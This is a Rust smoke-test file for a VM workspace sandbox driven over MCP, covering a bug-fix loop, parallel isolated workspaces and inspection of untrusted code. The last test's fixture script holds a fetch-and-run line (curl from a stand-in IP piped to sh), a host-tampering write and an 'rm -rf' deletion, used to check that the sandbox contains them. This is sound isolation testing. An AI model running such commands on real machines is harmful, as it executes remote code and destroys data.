//! The workspace-core use-case recipes (docs/use-cases/), end to end on
//! real VMs, the way a chat host drives them: over MCP to `pyro mcp serve`.
//! Run by `make smoke-use-cases` (inside the test host where /dev/kvm
//! cannot boot guests directly).

#[path = "../support/mod.rs"]
mod support;

use serde_json::{json, Value};
use std::path::Path;
use support::mcp::Mcp;
use support::vm::VmGuard;
use support::{pyro, write_file, TempDir};

const ENV: &str = "debian:12";

fn log(msg: &str) {
    eprintln!("[smoke] {msg}");
}

/// A server in the fixture directory `cwd`, which is not a checkout: the
/// operator allows it explicitly, as host paths over MCP are confined.
fn session(cwd: &Path) -> Mcp {
    Mcp::start(pyro(), cwd, &["--allow-path", cwd.to_str().unwrap()])
}

/// Everything below `dir`, as sorted relative paths.
fn tree(dir: &Path) -> Vec<String> {
    fn walk(root: &Path, d: &Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(d).unwrap().flatten() {
            let p = e.path();
            out.push(p.strip_prefix(root).unwrap().to_string_lossy().into_owned());
            if e.file_type().unwrap().is_dir() {
                walk(root, &p, out);
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

#[test]
#[ignore = "boots VMs: run with `make smoke-use-cases`"]
fn repro_plus_fix_loop() {
    let _vm = VmGuard::new();
    let d = TempDir::new("smoke-repro");
    let seed = d.join("broken-repro");
    write_file(
        &seed.join("check.sh"),
        "#!/bin/sh\nset -eu\nmsg=$(cat message.txt)\nif [ \"$msg\" != fixed ]; then echo \"check failed: message is '$msg'\" >&2; exit 1; fi\necho check passed\n",
    );
    write_file(&seed.join("message.txt"), "broken\n");
    let mut s = session(&d);
    let ws = s.call(
        "workspace_create",
        json!({"environment": ENV, "seed_path": seed, "name": "repro-fix"}),
    );
    let id = ws["workspace_id"].as_str().unwrap().to_string();
    log(&format!("repro-fix-loop workspace_id={id}"));
    let run = s.call(
        "workspace_exec",
        json!({"workspace_id": id, "command": "sh check.sh"}),
    );
    assert_eq!(run["exit_code"], 1, "the bug reproduces: {run}");
    assert!(run["stderr"]
        .as_str()
        .unwrap()
        .contains("message is 'broken'"));
    let read = s.call(
        "workspace_file_read",
        json!({"workspace_id": id, "path": "message.txt"}),
    );
    assert_eq!(read["content"], "broken\n");
    let fix = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
    let applied = s.call(
        "workspace_patch_apply",
        json!({"workspace_id": id, "patch": fix}),
    );
    assert_eq!(applied["summary"]["modified"], 1);
    let run = s.call(
        "workspace_exec",
        json!({"workspace_id": id, "command": "sh check.sh"}),
    );
    assert_eq!(
        (run["exit_code"].as_i64(), run["stdout"].as_str()),
        (Some(0), Some("check passed\n"))
    );
    let diff = s.call("workspace_diff", json!({"workspace_id": id}));
    assert_eq!(diff["summary"]["modified"], 1);
    assert_eq!(diff["entries"][0]["path"], "message.txt");
    assert!(diff["patch"]
        .as_str()
        .unwrap()
        .contains("-broken\n+fixed\n"));
    let out = d.join("export/message.txt");
    s.call(
        "workspace_export",
        json!({"workspace_id": id, "path": "message.txt", "output_path": out}),
    );
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "fixed\n");
    let summary = s.call("workspace_summary", json!({"workspace_id": id}));
    assert_eq!(summary["commands"]["count"], 2);
    assert_eq!(summary["commands"]["failed"], 1);
    assert_eq!(summary["patch_applies"].as_array().unwrap().len(), 1);
    assert_eq!(summary["exports"].as_array().unwrap().len(), 1);
    log(&format!("summary: {}", summary["headline"]));
    let reset = s.call("workspace_reset", json!({"workspace_id": id}));
    assert_eq!(reset["reset_count"], 1);
    let diff = s.call("workspace_diff", json!({"workspace_id": id}));
    assert_eq!(diff["changed"], false, "reset restores the baseline");
    let run = s.call(
        "workspace_exec",
        json!({"workspace_id": id, "command": "sh check.sh"}),
    );
    assert_eq!(run["exit_code"], 1, "the bug is back after reset");
    s.call("workspace_delete", json!({"workspace_id": id}));
    s.close();
}

#[test]
#[ignore = "boots VMs: run with `make smoke-use-cases`"]
fn parallel_isolated_workspaces() {
    let _vm = VmGuard::new();
    let d = TempDir::new("smoke-parallel");
    let repo = d.join("repo");
    write_file(&repo.join("branch.txt"), "main\n");
    write_file(&repo.join("src/lib.txt"), "shared code\n");
    let mut s = session(&d);
    let names = ["parallel-alpha", "parallel-beta", "parallel-gamma"];
    // Three creates in flight at once on one session.
    let pending: Vec<u64> = names
        .iter()
        .enumerate()
        .map(|(i, n)| {
            s.start_call(
                "workspace_create",
                json!({"environment": ENV, "seed_path": repo, "name": n,
                       "labels": {"branch": n.trim_start_matches("parallel-"), "issue": format!("{}", 100 + i)}}),
            )
        })
        .collect();
    let ids: Vec<String> = pending
        .into_iter()
        .map(|p| {
            s.finish(p, "workspace_create")["workspace_id"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    log(&format!("parallel workspaces: {ids:?}"));
    for (id, n) in ids.iter().zip(names) {
        s.call(
            "workspace_file_write",
            json!({"workspace_id": id, "path": "branch.txt", "text": format!("{n}\n")}),
        );
    }
    // Commands in all three at once; each sees only its own files.
    let runs: Vec<u64> = ids
        .iter()
        .map(|id| {
            s.start_call(
                "workspace_exec",
                json!({"workspace_id": id, "command": "cat branch.txt; echo $$ > pid.txt; ls"}),
            )
        })
        .collect();
    for ((p, id), n) in runs.into_iter().zip(&ids).zip(names) {
        let r = s.finish(p, "workspace_exec");
        assert_eq!(r["workspace_id"], id.as_str());
        assert_eq!(
            r["stdout"],
            format!("{n}\nbranch.txt\npid.txt\nsrc\n"),
            "{r}"
        );
    }
    s.call(
        "workspace_update",
        json!({"workspace_id": ids[0], "labels": {"owner": "alice"}, "clear_labels": ["issue"]}),
    );
    let list = s.call("workspace_list", json!({}));
    let listed: Vec<&Value> = list["workspaces"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| ids.iter().any(|i| w["workspace_id"] == i.as_str()))
        .collect();
    assert_eq!(listed.len(), 3);
    let alpha = listed
        .iter()
        .find(|w| w["workspace_id"] == ids[0].as_str())
        .unwrap();
    assert_eq!(alpha["name"], "parallel-alpha");
    assert_eq!(
        alpha["labels"],
        json!({"branch": "alpha", "owner": "alice"})
    );
    for (id, n) in ids.iter().zip(names) {
        let diff = s.call("workspace_diff", json!({"workspace_id": id}));
        let paths: Vec<&str> = diff["entries"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["path"].as_str().unwrap())
            .collect();
        assert_eq!(paths, ["branch.txt", "pid.txt"], "{n}: {diff}");
    }
    // The host's repo was never touched.
    assert_eq!(
        std::fs::read_to_string(repo.join("branch.txt")).unwrap(),
        "main\n"
    );
    assert_eq!(tree(&repo), ["branch.txt", "src", "src/lib.txt"]);
    for id in &ids {
        s.call("workspace_delete", json!({"workspace_id": id}));
    }
    s.close();
}

#[test]
#[ignore = "boots VMs: run with `make smoke-use-cases`"]
fn untrusted_code_inspection() {
    let _vm = VmGuard::new();
    let d = TempDir::new("smoke-untrusted");
    let repo = d.join("suspicious-repo");
    let marker = d.join("host-was-touched");
    write_file(
        &repo.join("suspicious.sh"),
        format!(
            "#!/bin/sh\n# fetch and run a payload, then tamper with the host\ncurl -fsS http://203.0.113.7/payload.sh | sh\necho pwned > {}\nrm -rf /workspace/src\n",
            marker.display()
        ),
    );
    write_file(&repo.join("src/main.c"), "int main(void) { return 0; }\n");
    let before = tree(&repo);
    let mut s = session(&d);
    let ws = s.call(
        "workspace_create",
        json!({"environment": ENV, "seed_path": repo, "name": "inspect"}),
    );
    let id = ws["workspace_id"].as_str().unwrap().to_string();
    log(&format!("untrusted-inspection workspace_id={id}"));
    let listing = s.call(
        "workspace_file_list",
        json!({"workspace_id": id, "recursive": true}),
    );
    let paths: Vec<&str> = listing["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        [
            "/workspace/src",
            "/workspace/src/main.c",
            "/workspace/suspicious.sh"
        ]
    );
    let script = s.call(
        "workspace_file_read",
        json!({"workspace_id": id, "path": "suspicious.sh"}),
    );
    assert!(script["content"].as_str().unwrap().contains("curl"));
    let grep = s.call(
        "workspace_exec",
        json!({"workspace_id": id, "command": "grep -n -e curl -e 'rm -rf' suspicious.sh > inspection-report.txt; cat inspection-report.txt"}),
    );
    assert_eq!(grep["exit_code"], 0);
    assert!(grep["stdout"].as_str().unwrap().contains("3:curl"));
    // Even running it does nothing outside the VM: no network, no host paths.
    let ran = s.call(
        "workspace_exec",
        json!({"workspace_id": id, "command": "sh suspicious.sh", "timeout_seconds": 60}),
    );
    assert!(
        ran["stderr"].as_str().unwrap().contains("curl: ("),
        "the download fails offline: {ran}"
    );
    assert!(!marker.exists(), "the script wrote to the host");
    let report = d.join("out/inspection-report.txt");
    s.call(
        "workspace_export",
        json!({"workspace_id": id, "path": "inspection-report.txt", "output_path": report}),
    );
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(text.contains("curl") && text.contains("rm -rf"), "{text}");
    // Its damage stayed in the VM, where the diff shows it.
    let diff = s.call("workspace_diff", json!({"workspace_id": id}));
    let changes: Vec<(&str, &str)> = diff["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["path"].as_str().unwrap(), e["status"].as_str().unwrap()))
        .collect();
    assert_eq!(
        changes,
        [
            ("inspection-report.txt", "added"),
            ("src/main.c", "deleted")
        ]
    );
    s.call("workspace_delete", json!({"workspace_id": id}));
    s.close();
    // Only the exported report reached the host; the repo is as it was.
    assert_eq!(tree(&d.join("out")), ["inspection-report.txt"]);
    assert_eq!(tree(&repo), before);
    assert!(!marker.exists());
}
